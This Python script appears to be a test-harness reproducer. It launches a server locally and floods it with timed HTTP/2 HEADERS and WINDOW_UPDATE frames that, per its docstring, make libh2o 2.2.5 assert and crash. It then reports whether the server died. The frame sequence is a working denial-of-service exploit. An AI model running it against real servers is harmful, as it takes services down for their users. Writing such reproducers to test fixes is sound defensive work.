"""Run in a network namespace whose loopback has an MTU of 1500: attack_1951.py GUARD_SERVER [OPTION ...].
Streams whose whole answer fits the window, a reader that stalls, then a WINDOW_UPDATE on every stream: libh2o 2.2.5
asserts when it reads that while the write that finished the streams is in flight. Exit 1 when the server died."""

import subprocess
import sys
import time
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[1])]

from guard.frames import Raw2, headers, window  # noqa: E402
from harness.ports import free_port  # noqa: E402


def attack(port):
    """A 40-byte body in a window of 40 bytes; enough answers to fill the send buffer."""
    with Raw2(port, initial_window_size=40) as connection:
        connection.sock.settimeout(5)
        connection.send(window(0, 1 << 30))
        stream = 1
        for _ in range(400):
            batch = range(stream, stream + 200, 2)
            stream += 200
            try:
                connection.send(b"".join(headers(number, b"/refused") for number in batch))
                time.sleep(0.003)
                if not connection.send(b"".join(window(number, 1) for number in batch)):
                    return
            except TimeoutError:
                return


def main():
    port = free_port()
    server = subprocess.Popen([sys.argv[1], str(port), *sys.argv[2:]], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    server.stdout.readline()
    for _ in range(3):
        attack(port)
    time.sleep(0.2)
    died = server.poll()
    if died is None:
        server.terminate()
    print(f"died: {died}", server.communicate()[1].decode(errors="replace")[-2000:])
    return 0 if died is None else 1


sys.exit(main())
